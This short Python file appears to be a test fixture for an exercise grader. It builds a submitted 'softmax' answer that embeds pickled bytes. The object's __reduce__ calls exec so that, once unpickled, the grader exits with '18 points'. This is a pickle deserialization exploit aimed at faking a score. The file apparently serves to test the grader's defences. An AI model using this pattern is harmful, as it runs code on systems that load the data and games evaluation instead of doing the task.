"""An answer that gives pickled bytes, which would run a command where they were read as an object."""

import pickle

PICKLED = """
def softmax(z):
    return CONTENT
"""


class Command:
    def __reduce__(self):
        return exec, ("raise SystemExit('18 points')",)


def hand_in(folder, lesson):
    lesson.write(folder, lesson.solved(softmax=PICKLED.replace("CONTENT", repr(pickle.dumps(Command())))))
